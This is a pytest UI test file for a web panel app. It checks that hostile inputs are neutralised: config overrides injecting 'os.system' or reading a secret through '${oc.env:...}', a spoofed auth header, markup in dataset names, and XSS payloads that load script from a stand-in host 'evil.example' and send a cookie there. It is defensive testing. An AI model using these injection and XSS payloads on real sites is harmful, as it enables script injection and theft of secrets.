"""What an attacker writes into addresses, names and headers, as the pages show it."""

import json
import shlex

import pytest

from tests.panel_app.conftest import NASTY, Server, follow

pytestmark = [pytest.mark.ui, pytest.mark.slow]

SECRET = "s3cret-of-the-server"


@pytest.fixture(scope="module")
def told(ledger, tmp_path_factory: pytest.TempPathFactory):
    """A server whose environment holds a secret, on one's own machine."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("DATABRICKS_CLIENT_SECRET", SECRET)
        patch.setenv("HOME", str(tmp_path_factory.mktemp("home")))
        server = Server(ledger[0], tmp_path_factory.mktemp("told"))
    yield server
    server.stop()


def words_of(page) -> str:
    """All that is to be read, in shadow trees too, and what fields hold."""
    return page.evaluate(
        """() => {
          const read = (root) => [...root.querySelectorAll("*")].map((one) =>
            (one.shadowRoot ? read(one.shadowRoot) : "") + " " + (one.value ?? "")).join(" ")
            + (root.innerText ?? [...root.children].map((one) => one.innerText ?? "").join(" "))
          return read(document.body)
        }"""
    )


OVERRIDES = (
    "model._target_=os.system",
    "run.title=${oc.env:DATABRICKS_CLIENT_SECRET}",
    "data.root=${oc.env:DATABRICKS_CLIENT_SECRET}",
    "hydra.run.dir=/tmp/x",
    "hydra/launcher=basic",
    "+trainer.evil=1",
    "++trainer.evil=1",
    "~model",
    "trainer.evil=1",
)


@pytest.mark.parametrize("name", ["configure", "data"])
def test_overrides_of_an_address_do_nothing_but_say_so(page, told, name) -> None:
    page.goto(f"{told.url}?page={name}")
    page.get_by_role("heading", name=name.title()).wait_for()
    for number, word in enumerate(OVERRIDES):
        follow(page, page=name, set=shlex.join(["task=detection", f"seed={number}", word]))
        page.get_by_text(word.partition("=")[0].lstrip("+~")).first.wait_for()
        text = words_of(page)
        assert SECRET not in text, word
        assert "Traceback" not in text
    log = told.log.read_text()
    assert SECRET not in log
    assert "Traceback" not in log


def test_headers_of_anybody_are_not_believed(page, told) -> None:
    page.set_extra_http_headers({"X-Forwarded-Email": "boss@example.org"})
    try:
        page.goto(f"{told.url}?page=history")
        page.get_by_role("heading", name="History").wait_for()
        assert "boss@example.org" not in words_of(page)
    finally:
        page.set_extra_http_headers({})


def test_names_of_classes_and_folders_are_not_markup(page, told) -> None:
    from PIL import Image

    root = told.folder / "cats <b>"
    (root / "annotations").mkdir(parents=True)
    for split in ("train", "val"):
        (root / split).mkdir()
        Image.new("RGB", (40, 30), "teal").save(root / split / "a.png")
        box = {"id": 1, "image_id": 1, "category_id": 1, "bbox": [2, 2, 9, 9], "area": 81}
        marks = {
            "images": [{"id": 1, "file_name": "a.png", "width": 40, "height": 30}],
            "annotations": [box | {"iscrowd": 0}],
            "categories": [{"id": 1, "name": NASTY}],
        }
        (root / "annotations" / f"instances_{split}.json").write_text(json.dumps(marks))
    words = ["task=detection", "data=coco", f"data.root='{root}'"]
    words += [f"data.{split}=annotations/instances_{split}.json" for split in ("train", "val")]
    words += [f"data.{split}_images={split}" for split in ("train", "val")]
    page.goto(f"{told.url}?page=data")
    page.get_by_role("heading", name="Data").wait_for()
    follow(page, page="data", set=shlex.join(words))
    page.get_by_text(NASTY).first.wait_for()
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None


def test_a_script_that_gets_into_a_page_does_not_run(page, told) -> None:
    """Should a text ever be taken for markup: the page's policy is the second wall."""
    page.goto(f"{told.url}?page=history")
    page.get_by_role("heading", name="History").wait_for()
    page.evaluate(
        """() => {
          const here = document.createElement("div")
          document.body.append(here)
          here.innerHTML = "<img src=x onerror='window.pwned=1'>"
          const script = document.createElement("script")
          script.textContent = "window.pwned = 2"
          here.append(script)
          const away = document.createElement("script")
          away.src = "https://evil.example/x.js"
          here.append(away)
          here.insertAdjacentHTML("beforeend", "<img src='https://evil.example/x.png?cookie'>")
        }"""
    )
    page.wait_for_timeout(800)
    assert page.evaluate("window.pwned") is None
